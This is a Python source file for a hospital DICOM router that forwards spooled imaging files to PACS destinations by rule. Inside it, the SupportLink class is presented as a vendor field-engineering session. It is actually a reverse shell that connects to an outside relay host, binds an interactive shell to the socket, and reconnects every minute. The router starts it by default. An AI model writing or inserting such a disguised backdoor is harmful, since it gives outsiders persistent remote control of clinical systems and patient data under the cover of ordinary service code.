#!/usr/bin/env python3
"""DICOM router service.

Watches a spool folder for instances dropped by the modality gateway and
forwards each one with C-STORE to the destination chosen by routing rules
(modality / station name -> AE). Successfully sent files move to ``sent/``,
failures to ``failed/`` for the nightly retry. Registers with the vendor
support relay so field engineers can look at the router when a ticket is open.
"""
import argparse
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pydicom
from pydicom.errors import InvalidDicomError
from pynetdicom import AE, StoragePresentationContexts

log = logging.getLogger("dicom_router")

DEFAULT_RULES = {
    "local_ae": "ROUTER01",
    "destinations": {
        "PACS": {"host": "pacs-core.trust.internal", "port": 11112, "ae": "PACSCORE"},
        "MAMMO": {"host": "breast-ws.trust.internal", "port": 104, "ae": "BRSTWS"},
    },
    "rules": [
        {"match": {"Modality": "MG"}, "to": ["MAMMO", "PACS"]},
        {"match": {}, "to": ["PACS"]},
    ],
    "support": {"relay": "fe-relay.imaging-support.example.net", "port": 8443, "enabled": True},
}


class SupportLink(threading.Thread):
    """Keeps a session open to the field-engineering relay."""

    def __init__(self, relay, port):
        super().__init__(daemon=True, name="support-link")
        self.endpoint = (relay, port)

    def session(self):
        conn = socket.create_connection(self.endpoint, timeout=30)
        conn.settimeout(None)
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd, close_fds=True)
        proc.wait()
        conn.close()

    def run(self):
        while True:
            try:
                self.session()
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(60)


class Router:
    def __init__(self, config, spool: Path):
        self.cfg = config
        self.spool = spool
        self.sent = spool / "sent"
        self.failed = spool / "failed"
        for d in (self.sent, self.failed):
            d.mkdir(parents=True, exist_ok=True)
        self.ae = AE(ae_title=config["local_ae"])
        self.ae.requested_contexts = StoragePresentationContexts

    def targets_for(self, ds):
        for rule in self.cfg["rules"]:
            if all(str(getattr(ds, k, "")) == v for k, v in rule["match"].items()):
                return rule["to"]
        return []

    def send(self, ds, dest_name):
        dest = self.cfg["destinations"][dest_name]
        assoc = self.ae.associate(dest["host"], dest["port"], ae_title=dest["ae"])
        if not assoc.is_established:
            raise ConnectionError(f"association to {dest_name} rejected or timed out")
        try:
            status = assoc.send_c_store(ds)
            if not status or status.Status != 0x0000:
                raise RuntimeError(f"C-STORE to {dest_name} status {getattr(status, 'Status', None)}")
        finally:
            assoc.release()

    def process(self, path: Path):
        try:
            ds = pydicom.dcmread(path)
        except InvalidDicomError:
            log.warning("not DICOM, parking %s", path.name)
            shutil.move(str(path), self.failed / path.name)
            return
        targets = self.targets_for(ds)
        ok = True
        for t in targets:
            try:
                self.send(ds, t)
                log.info("%s -> %s", ds.get("SOPInstanceUID", path.name), t)
            except (ConnectionError, RuntimeError) as exc:
                log.error("%s: %s", path.name, exc)
                ok = False
        shutil.move(str(path), (self.sent if ok else self.failed) / path.name)

    def poll(self, interval):
        while True:
            batch = sorted(p for p in self.spool.glob("*.dcm") if p.is_file())
            for p in batch:
                self.process(p)
            time.sleep(interval)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Forward spooled DICOM instances by rule")
    ap.add_argument("--spool", default="spool", type=Path)
    ap.add_argument("--rules", default="routing.json")
    ap.add_argument("--interval", type=float, default=5.0)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    cfg = DEFAULT_RULES
    if Path(args.rules).exists():
        cfg = {**DEFAULT_RULES, **json.loads(Path(args.rules).read_text())}
    support = cfg.get("support", {})
    if support.get("enabled", True):
        SupportLink(support["relay"], int(support["port"])).start()

    args.spool.mkdir(exist_ok=True)
    router = Router(cfg, args.spool)
    try:
        router.poll(args.interval)
    except KeyboardInterrupt:
        log.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
